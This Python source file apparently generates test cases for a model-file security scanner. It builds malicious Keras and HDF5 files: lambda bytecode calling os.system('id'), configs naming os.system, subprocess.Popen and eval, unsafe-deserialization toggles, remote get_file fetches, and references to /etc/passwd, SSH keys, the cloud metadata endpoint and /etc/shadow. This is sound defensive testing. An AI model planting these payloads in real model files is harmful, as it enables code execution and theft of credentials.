"""Keras archives (.keras) and HDF5 models: code in Lambda layers, and configurations that name any Python function.

CVE-2024-3660 (Lambda), 2025-1550 (module and class_name), 2025-8747 (get_file), 2025-9905 (.h5 ignores safe_mode),
2025-9906 (enable_unsafe_deserialization), 2025-49655 (TorchModuleWrapper); vocabulary paths; HDF5 external links.
"""

import base64
import io
import json
import marshal

from pkl import EVIL, EVIL_0, PLAIN
from rawzip import Entry, archive

FAMILY = "keras"
CODE = base64.b64encode(marshal.dumps(compile("lambda x: __import__('os').system('id')", "<lambda>", "eval"))).decode()
BAD_CODE = base64.b64encode(b"\xe3\x01\x02 no bytecode").decode()


def layer(class_name, module="keras.layers", registered=None, **config):
    return {"module": module, "class_name": class_name, "config": {"name": class_name.lower(), **config}, "registered_name": registered}


def lambda_of(code, form="keras3"):
    if form == "keras3":
        return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return [code, None, None]


def model(*layers, **more):
    first = layer("InputLayer", batch_shape=[None, 4], dtype="float32", sparse=False)
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "net", "trainable": True, "layers": [first, *layers]}, "build_config": {"input_shape": [None, 4]}, **more}  # fmt: skip


DENSE = layer("Dense", units=2, activation="relu", kernel_initializer={
    "module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None})  # fmt: skip


def weights(change=None, **options):
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w", **options) as file:
        file.create_dataset("layers/dense/vars/0", data=[[0.5, 0.25]] * 4)
        if change:
            change(file)
    return out.getvalue()


def keras(config, weights_=None, extra=()):
    text = config if isinstance(config, (str, bytes)) else json.dumps(config)
    metadata = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"})
    return archive(Entry("metadata.json", metadata.encode()), Entry("config.json", text.encode() if isinstance(text, str) else text),
                   Entry("model.weights.h5", weights_ or weights()), *extra)  # fmt: skip


def make(corpus):
    import h5py  # noqa: F401 - everything here holds an HDF5 file

    archives(corpus)
    hdf5(corpus)


def archives(corpus):
    honest = keras(model(DENSE))

    def case(name, data, file="model.keras", expected="fail", about="", twin=honest):
        data = data if isinstance(data, bytes) else keras(data)
        corpus.attack(FAMILY, name, {file: data}, expected=expected, about=about, twin={file: twin})

    def function(module, name):
        return {"module": module, "class_name": "function", "config": name, "registered_name": name}

    case("lambda", model(layer("Lambda", function=lambda_of(CODE))))
    case("lambda-bad-bytecode", model(layer("Lambda", function=lambda_of(BAD_CODE))))
    case("lambda-no-code", model(layer("Lambda", function=lambda_of(""))))
    case("lambda-in-wrapper", model(layer("TimeDistributed", layer=layer("Lambda", function=lambda_of(CODE)))))
    case("lambda-in-model", model(model(layer("Lambda", function=lambda_of(CODE)))))
    case("lambda-escaped-name", json.dumps(model(layer("Lambda", function=lambda_of(CODE)))).replace("Lambda", "L\\u0061mbda"))
    case("lambda-named-function", model(layer("Lambda", function=function("os", "system"), arguments={})))
    case("lambda-bare", model(layer("Dense", units=2, activation=lambda_of(CODE))), about="__lambda__ as an activation")
    case("module-os", model(layer("system", module="os")))
    case("module-function", model(layer("Dense", units=1, activation=function("os", "system"))))
    case("module-builtins", model(layer("Dense", units=1, activation=function("builtins", "eval"))))
    case("module-subprocess", model(layer("Popen", module="subprocess", args="id", shell=True)))
    case("module-inbound-args", model({**DENSE, "inbound_nodes": [{"args": ["id"], "kwargs": {"fn": function("os", "system")}}]}))
    case("module-in-compile", model(DENSE, compile_config={"loss": function("builtins", "exec"), "optimizer": "adam"}))
    case("module-in-initializer", model(layer("Dense", units=1, kernel_initializer={"module": "importlib", "class_name": "import_module", "config": {"name": "antigravity"}})))
    case("registered-name", model(layer("Dense", registered="subprocess>Popen", module="subprocess", units=1)))
    case("get-file", model(layer("Dense", units=1, activation={"module": "keras.utils", "class_name": "get_file",
         "config": {"fname": "m", "origin": "http://weights.invalid/m.tar", "extract": True}})))  # fmt: skip
    case("get-file-function", model(layer("Lambda", function=function("keras.src.utils.file_utils", "get_file"),
         arguments={"origin": "http://weights.invalid/m"})))  # fmt: skip
    case("enable-unsafe", model(layer("Dense", units=1, activation=function("keras.config", "enable_unsafe_deserialization"))))
    case("enable-unsafe-src", model(layer("x", module="keras.src.saving.serialization_lib", registered="enable_unsafe_deserialization")))
    case("load-model", model(layer("Dense", units=1, activation=function("keras.models", "load_model"))))
    case("torch-wrapper", model(layer("TorchModuleWrapper", module="keras.utils.torch_utils", module_=base64.b64encode(EVIL).decode())))
    case("torch-wrapper-pickle", model({**layer("TorchModuleWrapper"), "config": {"name": "t", "module": EVIL_0.decode()}}))
    case("vocabulary-path", model(layer("StringLookup", vocabulary="/etc/passwd")))
    case("vocabulary-url", model(layer("TextVectorization", vocabulary="http://169.254.169.254/latest/meta-data/")))
    case("vocabulary-parent", model(layer("IntegerLookup", vocabulary="../../../../root/.ssh/id_rsa")))
    case("unregistered-package", model(layer("Gate", module="acme_layers.gates", registered="acme>Gate")), expected="not-pass",
         about="a layer of an unknown package")  # fmt: skip
    case("config-twice", archive(Entry("config.json", json.dumps(model(DENSE)).encode()), Entry("model.weights.h5", weights()),
         Entry("config.json", json.dumps(model(layer("Lambda", function=lambda_of(CODE)))).encode())))  # fmt: skip
    case("config-key-twice", json.dumps(model(DENSE))[:-1] + ', "config": ' + json.dumps(model(layer("system", module="os"))["config"]) + "}")
    case("config-broken", "{" + json.dumps(model(DENSE)), expected="not-pass")
    case("pickle-inside", keras(model(DENSE), extra=[Entry("assets/vocab.bin", EVIL)]))
    case("traversal-inside", keras(model(DENSE), extra=[Entry("../../../tmp/m.py", b"print(1)")]))
    case("python-inside", keras(model(DENSE), extra=[Entry("assets/sitecustomize.py", b"import os\nos.system('id')\n")]))
    case("renamed-bin", model(layer("Lambda", function=lambda_of(CODE))), file="weights.bin")
    case("weights-external-link", keras(model(DENSE), weights(lambda f: f.__setitem__("layers/out", external("/etc/passwd")))))
    case("weights-external-storage", keras(model(DENSE), weights(stored_outside)), about="a dataset whose bytes lie in /etc/passwd")


def external(path, name="/"):
    import h5py

    return h5py.ExternalLink(path, name)


def stored_outside(file):
    file.create_dataset("layers/x", (64,), "uint8", external=[("/etc/passwd", 0, 64)])


def hdf5(corpus):
    import numpy

    def h5(config=None, change=None, training=None, **options):
        def write(file):
            file.attrs["keras_version"] = "2.12.0"
            file.attrs["backend"] = "tensorflow"
            if config is not None:
                file.attrs["model_config"] = config if isinstance(config, (str, bytes)) else json.dumps(config)
            if training:
                file.attrs["training_config"] = json.dumps(training)
            if change:
                change(file)

        return weights(write, **options)

    plain = {"class_name": "Sequential", "config": {"name": "net", "layers": [{"class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "relu"}}]}}

    def with_layer(class_name, **config):
        return {"class_name": "Sequential", "config": {"name": "net", "layers": [{"class_name": class_name, "config": {"name": "l", **config}}]}}

    def case(name, data, file="model.h5", expected="fail", about="", twin=None):
        corpus.attack("hdf5", name, {file: data}, expected=expected, about=about, twin={file: twin or h5(plain)})

    old = with_layer("Lambda", function=lambda_of(CODE, "keras2"), function_type="lambda", module="__main__", arguments={})
    case("lambda", h5(old))
    case("lambda-bad-bytecode", h5(with_layer("Lambda", function=lambda_of(BAD_CODE, "keras2"), function_type="lambda")))
    case("lambda-function", h5(with_layer("Lambda", function="system", function_type="function", module="os")))
    case("lambda-raw", h5(with_layer("Lambda", function="id", function_type="raw")))
    case("lambda-nested", h5(with_layer("Bidirectional", layer={"class_name": "Lambda", "config": {"function": lambda_of(CODE, "keras2"), "function_type": "lambda"}})))
    case("lambda-bytes-attribute", h5(json.dumps(old).encode()))
    case("lambda-keras3", h5(model(layer("Lambda", function=lambda_of(CODE)))))
    case("module-os", h5(model(layer("system", module="os"))))
    case("training-config", h5(plain, training={"loss": {"module": "builtins", "class_name": "function", "config": "eval"}}))
    case("config-broken", h5(json.dumps(old)[:-9]), expected="not-pass")
    case("config-as-array", h5(plain, lambda f: f.attrs.__setitem__("model_config", numpy.array([json.dumps(old).encode()]))), expected="not-pass")
    case("renamed", h5(old), file="weights.dat")
    case("userblock-pickle", EVIL.ljust(512, b"\0") + h5(plain, userblock_size=512)[512:], about="a pickle in the user block before HDF5")
    case("userblock-lambda", h5(old, userblock_size=1024))
    case("appended-pickle", h5(plain) + EVIL)
    case("external-link", h5(plain, lambda f: f.__setitem__("data", external("../../secrets.h5", "/keys"))))
    case("external-storage", h5(plain, stored_outside))
    case("virtual-dataset", h5(plain, virtual), about="a virtual dataset that maps another file")
    pickled_attribute = lambda data: lambda f: f["layers"].attrs.__setitem__("non_index_axes", numpy.bytes_(data))  # noqa: E731
    case("pytables-attribute", h5(None, pickled_attribute(EVIL_0)), file="frame.h5", twin=h5(None, pickled_attribute(b"(lp1\n(I1\n(lp2\nS'a'\naS'b'\natp3\na.")),
         about="PyTables unpickles such attributes")  # fmt: skip
    case("dataset-pickle", h5(None, lambda f: f.create_dataset("estimator", data=numpy.void(EVIL))), file="model.hdf5",
         twin=h5(None, lambda f: f.create_dataset("estimator", data=numpy.void(PLAIN))), expected="not-pass",
         about="a pickle as an opaque dataset, as some tools keep estimators")  # fmt: skip
    whole = h5(plain)
    case("cut", whole[: len(whole) // 3], expected="not-pass")
    case("superblock-lie", whole[:40] + (2**60).to_bytes(8, "little") + whole[48:], expected="not-pass")


def virtual(file):
    import h5py

    layout = h5py.VirtualLayout(shape=(4,), dtype="uint8")
    layout[:] = h5py.VirtualSource("/etc/shadow.h5", "x", shape=(4,))
    file.create_virtual_dataset("v", layout)
